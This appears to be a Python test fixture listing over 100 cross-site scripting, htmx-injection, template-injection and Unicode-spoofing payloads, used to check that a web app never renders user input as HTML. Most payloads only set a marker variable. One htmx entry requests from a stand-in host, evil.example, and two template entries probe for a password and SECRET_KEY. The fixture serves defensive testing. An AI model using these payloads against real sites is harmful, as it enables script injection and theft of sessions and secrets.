"""A corpus of hostile text (≥ 100 payloads) for the browser test: each would run script, inject markup or
fire an htmx request if any page rendered it as HTML. Every payload that could run script sets
`window.__pwned` (or opens a dialog); every injected element carries `pwn` in a tag, attribute or URL.
"""

SCRIPTS = [
    "<script>window.__pwned=1</script>",
    "<SCRIPT>window.__pwned=1</SCRIPT>",
    "<script src=/pwned.js></script>",
    "<script>alert(1)</script>",
    "</script><script>window.__pwned=1</script>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    '<script type="module">window.__pwned=1</script>',
    "<script>/*</script><script>*/window.__pwned=1</script>",
    '<noscript><p title="</noscript><img src=x data-pwn onerror=window.__pwned=1>">',
    "<template><script>window.__pwned=1</script></template>",
]
HANDLERS = [
    "<img src=x data-pwn onerror=window.__pwned=1>",
    "<img src=x data-pwn onerror=alert(1)>",
    '<img src="x" data-pwn onerror="window.__pwned=1">',
    "<body onload=window.__pwned=1 data-pwn>",
    "<div data-pwn onmouseover=window.__pwned=1>hover</div>",
    "<input data-pwn autofocus onfocus=window.__pwned=1>",
    "<details data-pwn open ontoggle=window.__pwned=1>",
    "<video data-pwn><source onerror=window.__pwned=1></video>",
    "<audio data-pwn src=x onerror=window.__pwned=1>",
    "<marquee data-pwn onstart=window.__pwned=1>",
    "<iframe data-pwn src=/pwned onload=window.__pwned=1></iframe>",
    '<iframe data-pwn srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<object data-pwn data=/pwned></object>",
    "<embed data-pwn src=/pwned>",
    "<form data-pwn action=/pwned><button>go</button></form>",
    '<meta http-equiv=refresh content="0;url=/pwned">',
    "<base href=/pwned/>",
    "<link rel=stylesheet href=/pwned.css>",
    "<style>@import '/pwned.css';</style>",
    "<select data-pwn autofocus onfocus=window.__pwned=1>",
]
URLS = [
    "<a data-pwn href=javascript:window.__pwned=1>click</a>",
    '<a data-pwn href="javascript:alert(1)">click</a>',
    "<a data-pwn href=JaVaScRiPt:window.__pwned=1>click</a>",
    '<a data-pwn href="jav&#x09;ascript:window.__pwned=1">click</a>',
    '<a data-pwn href="data:text/html,<script>window.__pwned=1</script>">click</a>',
    '<img data-pwn src="data:image/svg+xml,<svg onload=alert(1)>">',
    "javascript:window.__pwned=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "https://example.org/pwned?<script>window.__pwned=1</script>",
    "vbscript:msgbox(1)",
]
SVG = [
    "<svg data-pwn onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><a data-pwn xlink:href=javascript:window.__pwned=1><text x=20 y=20>x</text></a></svg>",
    "<math><mi xlink:href=javascript:window.__pwned=1>x</mi></math>",
    "<svg><foreignObject><img src=x data-pwn onerror=window.__pwned=1></foreignObject></svg>",
]
BREAKOUTS = [
    '"><img src=x data-pwn onerror=window.__pwned=1>',
    "'><img src=x data-pwn onerror=window.__pwned=1>",
    '" onmouseover="window.__pwned=1" data-pwn="',
    "' onfocus='window.__pwned=1' autofocus data-pwn='",
    '" autofocus onfocus=window.__pwned=1 x="',
    "</textarea><img src=x data-pwn onerror=window.__pwned=1>",
    "</title><img src=x data-pwn onerror=window.__pwned=1>",
    "</option></select><img src=x data-pwn onerror=window.__pwned=1>",
    "</td></tr></table><img src=x data-pwn onerror=window.__pwned=1>",
    "<!--<img src=x data-pwn onerror=window.__pwned=1>-->",
    "--><img src=x data-pwn onerror=window.__pwned=1>",
    "<![CDATA[<img src=x data-pwn onerror=window.__pwned=1>]]>",
    "</style><img src=x data-pwn onerror=window.__pwned=1>",
    "';window.__pwned=1;//",
    '";window.__pwned=1;//',
    "`;window.__pwned=1;//",
    "\\';window.__pwned=1;//",
    "${window.__pwned=1}",
]
BROKEN = [
    "<img src=x data-pwn onerror=window.__pwned=1",
    "<<img src=x data-pwn onerror=window.__pwned=1>>",
    "<img/src=x/data-pwn/onerror=window.__pwned=1>",
    "<img\nsrc=x\ndata-pwn\nonerror=window.__pwned=1>",
    "<img src=`x` data-pwn onerror=`window.__pwned=1`>",
    "<div <img src=x data-pwn onerror=window.__pwned=1>>",
    "<p>unclosed <b>bold <i>italic",
    "</div></div></div></main></body>",
    "<a href='x",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E",
]
HTMX = [
    '<div data-pwn hx-get="/pwned" hx-trigger="load">x</div>',
    '<div data-pwn hx-post="/pwned" hx-trigger="load">x</div>',
    '<span data-pwn hx-get="/pwned" hx-trigger="load delay:10ms" hx-target="body">x</span>',
    '<div data-pwn data-hx-get="/pwned" data-hx-trigger="load">x</div>',
    '<div data-pwn hx-on:htmx:load="window.__pwned=1">x</div>',
    '<div data-pwn hx-on::load="window.__pwned=1">x</div>',
    '<img src=x data-pwn hx-get="/pwned" hx-trigger="load">',
    'hx-get="/pwned" hx-trigger="load"',
    '" hx-get="/pwned" hx-trigger="load" data-pwn="',
    '<div hx-vals=\'js:{a: window.__pwned=1}\' hx-get="/pwned" hx-trigger="load" data-pwn>x</div>',
    '<form data-pwn hx-post="/pwned" hx-trigger="load"></form>',
    '<div data-pwn hx-get="//evil.example/pwned" hx-trigger="load">x</div>',
]
UNICODE = [
    "\u202eevil\u202c reversed",
    "file\u202egpj.exe",
    "\u2066isolated\u2069 \u2067rtl\u2069",
    "zero\u200bwidth\u200cjoin\u200dchars\ufeff",
    "\u200b<script>window.__pwned=1</script>\u200b",
    "<scr\u200bipt>window.__pwned=1</scr\u200bipt>",
    "emoji 👮‍♀️🚓 and combining e\u0301\u0301\u0301",
    "\u0007bell\u0008backspace\u007fdelete",
    "line\nbreak\r\nand\ttab",
    "\uff33\uff23\uff32\uff29\uff30\uff34\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",  # fullwidth
    "שלום <b data-pwn>עברית</b> مرحبا",
    "\u001b[31mANSI red\u001b[0m \u001b]0;title\u0007",
]
TEMPLATE = [
    "{{ request.user.password }}",
    "{% csrf_token %}",
    "{% load static %}{% static 'x' %}",
    "{{7*7}} ${7*7} #{7*7}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{# comment #}",
    "{% include 'base.html' %}",
]
LONG = [
    "A" * 10_000,
    "<script>window.__pwned=1</script>" * 300,
    ("word " * 2_000).strip(),
    "x" + "\u200b" * 5_000,
]

PAYLOADS: list[str] = [*SCRIPTS, *HANDLERS, *URLS, *SVG, *BREAKOUTS, *BROKEN, *HTMX, *UNICODE, *TEMPLATE, *LONG]
assert len(PAYLOADS) >= 100 and len(set(PAYLOADS)) == len(PAYLOADS)


def fit(payload: str, limit: int) -> str:
    """The payload cut to a field's length (names are ≤ 200 characters; long text goes where it fits)."""
    return payload[:limit]
